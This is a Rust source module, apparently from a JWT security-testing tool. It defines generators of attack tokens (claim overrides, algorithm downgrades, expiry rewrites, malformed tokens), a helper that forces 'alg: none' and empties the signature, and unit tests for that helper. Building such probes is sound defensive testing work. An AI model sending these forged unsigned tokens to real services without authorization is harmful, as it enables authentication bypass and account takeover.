//! Attack token generators.
//!
//! Each generator takes a token (or nothing, for the malformation
//! catalog) and produces tokens a correctly implemented verifier must
//! reject. None of them sign anything: every generated token declares
//! `alg: none` and carries an empty signature segment.

pub mod claim_override;
pub mod downgrade;
pub mod expiry;
pub mod malformed;

use serde::Serialize;
use serde_json::Value;

use crate::core::codec::DecodedToken;
use crate::error::ProbeError;

pub use claim_override::{ClaimOverride, override_claim};
pub use downgrade::{AlgorithmDowngrade, downgrade_algorithm};
pub use expiry::{ExpiryRewrite, rewrite_expiry};
pub use malformed::{MALFORMED_ADVISORY, MalformedSample, malformed_catalog};

/// The `alg` header value that declares an unsigned token.
pub const NONE_ALGORITHM: &str = "none";

/// What a target service should do with an attack token, and what
/// response would indicate a vulnerability.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct Advisory {
    pub expected: &'static str,
    pub vulnerable_if: &'static str,
}

/// Force `alg: none`, drop the signature, and re-encode.
fn encode_unsigned(mut decoded: DecodedToken) -> Result<String, ProbeError> {
    decoded.header.insert(
        "alg".to_string(),
        Value::String(NONE_ALGORITHM.to_string()),
    );
    decoded.signature.clear();
    decoded.encode()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::codec::decode_token;

    #[test]
    fn test_encode_unsigned_sets_sentinel_and_empties_signature() {
        let decoded = decode_token("eyJhbGciOiJIUzI1NiJ9.e30.c2lnbmF0dXJl").unwrap();
        let token = encode_unsigned(decoded).unwrap();
        assert!(token.ends_with('.'));

        let reparsed = decode_token(&token).unwrap();
        assert_eq!(reparsed.header["alg"], NONE_ALGORITHM);
        assert_eq!(reparsed.signature, "");
    }

    #[test]
    fn test_encode_unsigned_adds_missing_alg() {
        // e30 = {}
        let decoded = decode_token("e30.e30.").unwrap();
        let reparsed = decode_token(&encode_unsigned(decoded).unwrap()).unwrap();
        assert_eq!(reparsed.header["alg"], NONE_ALGORITHM);
    }
}
